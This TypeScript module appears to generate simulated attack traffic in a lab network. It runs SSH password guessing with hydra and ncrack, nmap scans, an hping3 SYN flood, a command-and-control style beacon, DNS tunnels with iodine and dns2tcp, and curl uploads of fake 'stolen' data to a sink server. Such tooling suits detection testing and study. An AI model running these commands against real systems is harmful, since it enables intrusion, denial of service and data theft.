import {type ChildProcess, execFileSync, spawn} from "node:child_process";
import {existsSync, writeFileSync} from "node:fs";
import type {Client} from "./client.js";
import {sendFrom, servers} from "./room.js";
import {passwordList} from "./wordLists.js";

/** Guesses passwords of one account over SSH. */
export function hydraShell(me: Client): Promise<unknown> {
  const words = passwordList(me, 60);
  return me.run(["hydra", "-I", "-l", "deploy", "-P", words, "-t", "4", `ssh://${servers.files}`], {seconds: 100});
}

/** Guesses passwords of two accounts over SSH. */
export function ncrackShell(me: Client): Promise<unknown> {
  const words = passwordList(me, 40);
  return me.run(["ncrack", "-v", "--user", "root,admin", "-P", words, `ssh://${servers.files},CL=3`], {seconds: 100});
}

/** Scans the ports of one server: half-open, half-open and slowly, UDP, or by full connections. */
export async function scanPorts(me: Client): Promise<void> {
  const {address} = me;
  const raw = ["nmap", "-Pn", "-n", "--send-ip", "-e", "lo", "-S", address, "--max-retries", "1"];
  switch (me.account.uid % 4) {
    case 0:
      return void (await me.run([...raw, "-sS", "--top-ports", "300", servers.www], {root: true, seconds: 100}));
    case 1:
      return void (await me.run([...raw, "-sS", "--scan-delay", "1s", "--top-ports", "120", servers.files], {
        root: true,
        seconds: 200
      }));
    case 2:
      return void (await me.run([...raw, "-sU", "--top-ports", "60", servers.ns, servers.time], {
        root: true,
        seconds: 100
      }));
    default:
      return void (await me.run(["nmap", "--unprivileged", "-sT", "-Pn", "-n", "--top-ports", "200", servers.mqtt], {
        seconds: 100
      }));
  }
}

/** Looks for SSH at 200 addresses. */
export function sweep(me: Client): Promise<unknown> {
  const words = ["-sS", "-Pn", "-n", "--send-ip", "-e", "lo", "-S", me.address, "-p", "22", "--max-retries", "0"];
  return me.run(["nmap", ...words, "--max-rate", "100", "127.1.0.1-200"], {root: true, seconds: 60});
}

/** 400 connections begun and not finished. */
export function synFlood(me: Client): Promise<unknown> {
  const target = ["-p", me.pick(["80", "443"]), servers.www];
  return me.run(["hping3", "-q", "-S", "-i", "u3000", "-c", "400", "-a", me.address, ...target], {
    root: true,
    seconds: 20
  });
}

/** Asks a far server for tasks, again and again, with a little jitter. */
export async function beacon(me: Client): Promise<void> {
  const every = me.pick([6, 8, 12, 20]);
  const jitter = me.pick([0, 0.05, 0.2]) * every;
  const url = me.pick([`http://${servers.far}:8080/task`, `https://${servers.far}/task`]);
  await me.pause(0, every);
  while (me.left > 3) {
    await me.run(["curl", "-sSk", "-o", "out", "--max-time", "5", url]);
    await me.pause(every - jitter, every + jitter);
  }
}

/** IP over DNS: a tunnel device that moves to a network namespace of its own; a download and an upload through it. */
export async function iodine(me: Client): Promise<void> {
  sendFrom(me.address, servers.tunnel, 900);
  const tunnel = me.run(["iodine", "-f", "-r", "-P", "lab", "-d", "tun9", servers.tunnel, "t.lab.test"], {
    root: true,
    seconds: 150
  });
  const inside = spawn("unshare", ["--net", "sleep", "160"], {stdio: "ignore"});
  try {
    for (let i = 0; i < 60 && !existsSync("/sys/class/net/tun9"); ++i) await me.pause(0.5);
    await me.pause(8);
    throughTunnel(inside, ["link", "set", "tun9", "netns", String(inside.pid)], false);
    throughTunnel(inside, ["addr", "add", "10.53.0.2/27", "dev", "tun9"]);
    throughTunnel(inside, ["link", "set", "tun9", "up"]);
    const enter = [
      "nsenter",
      "--target",
      String(inside.pid),
      "--net",
      "curl",
      "-sS",
      "--limit-rate",
      "3k",
      "-o",
      "out"
    ];
    await me.run([...enter, "http://10.53.0.1:8053/catalogue.pdf"], {root: true, seconds: 40});
    await me.pause(3, 10);
    writeFileSync(`${me.home}/stolen`, "name,balance\n".repeat(2500));
    await me.run([...enter, "-F", `file=@${me.home}/stolen`, "http://10.53.0.1:8053/sink"], {root: true, seconds: 40});
    await tunnel;
  } finally {
    inside.kill();
  }
}

function throughTunnel(inside: ChildProcess, words: string[], enter = true): void {
  const command = ["ip", ...words];
  if (enter) command.unshift("nsenter", "--target", String(inside.pid), "--net");
  execFileSync(command[0]!, command.slice(1), {stdio: "ignore"});
}

/** TCP over DNS: a local port that leads to a far web server. */
export async function dns2tcp(me: Client): Promise<void> {
  const words = ["-z", "d.lab.test", "-k", "lab", "-r", "web", "-l", "2200", servers.relay];
  const tunnel = me.run(["dns2tcpc", ...words], {seconds: 90});
  await me.pause(2);
  for (let i = 0; i < 3; ++i) {
    await me.run(["curl", "-sS", "-o", "out", "--limit-rate", "8k", "http://127.0.0.1:2200/catalogue.pdf"], {
      seconds: 25
    });
    await me.pause(2, 5);
  }
  await tunnel;
}

/** Sends some megabytes to a far server. */
export async function exfiltrate(me: Client): Promise<void> {
  writeFileSync(`${me.home}/archive`, "0123456789abcdef".repeat(65536 * me.integer(3, 6)));
  const url = me.pick([`http://${servers.far}/sink`, `https://${servers.far}/sink`]);
  for (let i = me.integer(1, 3); i > 0; --i) {
    await me.run(["curl", "-sSk", "-o", "out", "--limit-rate", "400k", "-T", "archive", url], {seconds: 60});
    await me.pause(5, 20);
  }
}
